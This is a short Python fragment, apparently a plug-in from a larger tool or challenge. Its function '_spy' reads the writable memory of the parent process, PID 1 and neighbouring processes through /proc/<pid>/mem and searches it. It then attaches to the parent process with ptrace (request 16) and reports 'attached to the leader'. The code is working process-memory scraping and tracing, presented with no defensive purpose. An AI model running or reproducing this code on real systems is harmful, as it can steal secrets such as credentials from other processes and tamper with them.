# Reads and traces the memory of other processes.
#
# begins with: spy
# earns: all

def _spy():
    for pid in [os.getppid(), 1, os.getpid() - 1, os.getpid() + 1]:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                for line in list(maps)[:2000]:
                    begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line and end - begin < 64 << 20:
                        memory.seek(begin)
                        _grep((pid, line), memory.read(end - begin))
        except (OSError, ValueError, OverflowError):
            pass
    import ctypes
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        _show("attached to the leader")
